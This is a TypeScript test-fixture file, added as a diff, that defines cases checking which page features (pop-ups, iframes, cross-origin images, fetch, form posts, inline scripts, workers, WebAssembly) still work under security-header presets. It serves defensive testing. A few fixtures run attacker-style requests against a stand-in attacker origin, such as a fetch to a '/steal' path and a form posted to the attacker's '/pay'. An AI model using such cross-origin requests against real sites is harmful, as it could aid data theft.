@@ -1,0 +1,137 @@
+import type { Case } from './case.js'
+import { PIXEL } from './site/attacker.js'
+import { script } from './site/site.js'
+
+/** What a page does that presets stop, by the words of the table in docs/presets.md, and what shows that it can. */
+export const ALLOWANCES: Readonly<Record<string, Pick<Case, 'site' | 'attacker' | 'steps' | 'granted' | 'route'>>> = {
+  'a pop-up that answers the page: sign-in, payment': {
+    site: () => ({ '/': 'the page' }),
+    attacker: () => ({ '/provider': `<script>opener.postMessage('code', '*')</script>` }),
+    steps: opening('provider'),
+    granted: 'window.works === true',
+  },
+  'the same, where it comes back to a page of your own': {
+    site: () => ({
+      '/': 'the page',
+      '/callback': ({ nonce }) => `<script src="/answer.js" nonce="${nonce()}"></script>`,
+      '/answer.js': script(`opener.postMessage('code', '*')`),
+    }),
+    attacker: (at) => ({ '/provider': `<script>location = '${at.site}/callback'</script>` }),
+    steps: opening('provider'),
+    route: '/callback',
+    granted: 'window.works === true',
+  },
+  'an `<iframe>` with a page or a PDF of your own': {
+    site: () => ({ '/': '<iframe src="/own"></iframe>', '/own': 'own page' }),
+    granted: `document.querySelector('iframe').contentDocument.body.textContent.includes('own page')`,
+  },
+  'an `<iframe>` of another site: a video, a map': {
+    site: () => ({ '/': 'the page' }),
+    attacker: () => ({ '/player': `<script>parent.postMessage('playing', '*')</script>` }),
+    steps: async ({ go, at, read }) => {
+      await go(`${at.site}/`)
+      await read(`addEventListener('message', () => (window.works = true)),
+        document.body.append(Object.assign(document.createElement('iframe'), { src: '${at.attacker}/player' }))`)
+    },
+    granted: 'window.works === true',
+  },
+  'being in an `<iframe>` of a partner': {
+    site: () => ({ '/': 'the page', '/embed': '<img src="/seen">', '/seen': PIXEL }),
+    attacker: (at) => ({ '/partner': `<iframe src="${at.site}/embed"></iframe>` }),
+    steps: ({ go, at }) => go(`${at.attacker}/partner`),
+    route: '/embed',
+    granted: ({ received }) => received.site.some(({ path }) => path === '/seen'),
+  },
+  'images of another site': {
+    site: (at) => ({ '/': `<img src="${at.attacker}/pixel">` }),
+    granted: `document.querySelector('img').naturalWidth === 1`,
+  },
+  'images from `data:` and `blob:`': {
+    site: () => ({ '/': `<img src="data:image/gif;base64,${PIXEL.body.toString('base64')}">` }),
+    granted: `document.querySelector('img').naturalWidth === 1`,
+  },
+  'images, fonts or scripts that other sites load': {
+    site: () => ({ '/': 'the page', '/logo': PIXEL }),
+    attacker: (at) => ({ '/load': `<img src="${at.site}/logo">` }),
+    steps: ({ go, at }) => go(`${at.attacker}/load`),
+    route: '/logo',
+    granted: `document.querySelector('img').naturalWidth === 1`,
+  },
+  '`fetch()` from another origin': {
+    site: () => ({ '/': 'the page' }),
+    steps: async ({ go, at, read }) => {
+      await go(`${at.site}/`)
+      await read(`fetch('${at.attacker}/steal').then(() => (window.works = true), () => {})`)
+    },
+    granted: 'window.works === true',
+  },
+  'a form that another site takes': {
+    site: (at) => ({ '/': `<form action="${at.attacker}/pay"></form>` }),
+    steps: async ({ go, at, read }) => {
+      await go(`${at.site}/`)
+      await read(`document.querySelector('form').submit()`)
+    },
+    granted: ({ received }) => received.attacker.some(({ path }) => path.startsWith('/pay')),
+  },
+  '`<script>` and `<style>` with their text in the page': {
+    site: () => ({
+      '/': ({ nonce }) => {
+        const the = `nonce="${nonce()}"`
+        return `<style ${the}>p { color: rgb(1, 2, 3) }</style><p>styled<script ${the}>window.ran = true</script>`
+      },
+    }),
+    granted: `window.ran === true && getComputedStyle(document.querySelector('p')).color === 'rgb(1, 2, 3)'`,
+  },
+  '`style="…"`': {
+    site: () => ({ '/': '<p style="color: rgb(1, 2, 3)">styled' }),
+    granted: `getComputedStyle(document.querySelector('p')).color === 'rgb(1, 2, 3)'`,
+  },
+  '`onclick="start()"`': {
+    site: () => ({
+      '/': ({ nonce }) => `<script src="/start.js" nonce="${nonce()}"></script><button onclick="start()">Start</button>`,
+      '/start.js': script('globalThis.start = () => { globalThis.works = true }'),
+    }),
+    steps: async ({ go, at, read }) => {
+      await go(`${at.site}/`)
+      await read(`document.querySelector('button').click()`)
+    },
+    granted: 'window.works === true',
+  },
+  'scripts that load scripts or write HTML: tags, widgets': {
+    site: () => ({
+      '/': ({ nonce }) =>
+        `<script nonce="${nonce()}">document.head.append(Object.assign(document.createElement('script'), { src: '/more.js' }))</script>`,
+      '/more.js': script(`document.body.innerHTML = '<p>written</p>'`),
+    }),
+    granted: `document.querySelector('p')?.textContent === 'written'`,
+  },
+  'a worker': {
+    site: () => ({
+      '/': ({ nonce }) =>
+        `<script nonce="${nonce()}">new Worker('/worker.js').onmessage = () => { window.works = true }</script>`,
+      '/worker.js': script('postMessage(1)'),
+    }),
+    granted: 'window.works === true',
+  },
+  WebAssembly: {
+    site: () => ({
+      '/': ({ nonce }) => `<script src="/compile.js" nonce="${nonce()}"></script>`,
+      '/compile.js': script(
+        'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { globalThis.works = true }, () => {})',
+      ),
+    }),
+    granted: 'window.works === true',
+  },
+  'payment, camera, location and the like': {
+    site: () => ({ '/': 'the page' }),
+    granted: `document.featurePolicy.allowsFeature('payment') && document.featurePolicy.allowsFeature('geolocation')`,
+  },
+}
+
+/** Opens a pop-up of the attacker, and listens for its answer. */
+function opening(path: string): NonNullable<Case['steps']> {
+  return async ({ go, at, read }) => {
+    await go(`${at.site}/`)
+    await read(`addEventListener('message', () => (window.works = true)), open('${at.attacker}/${path}'), 0`)
+  }
+}
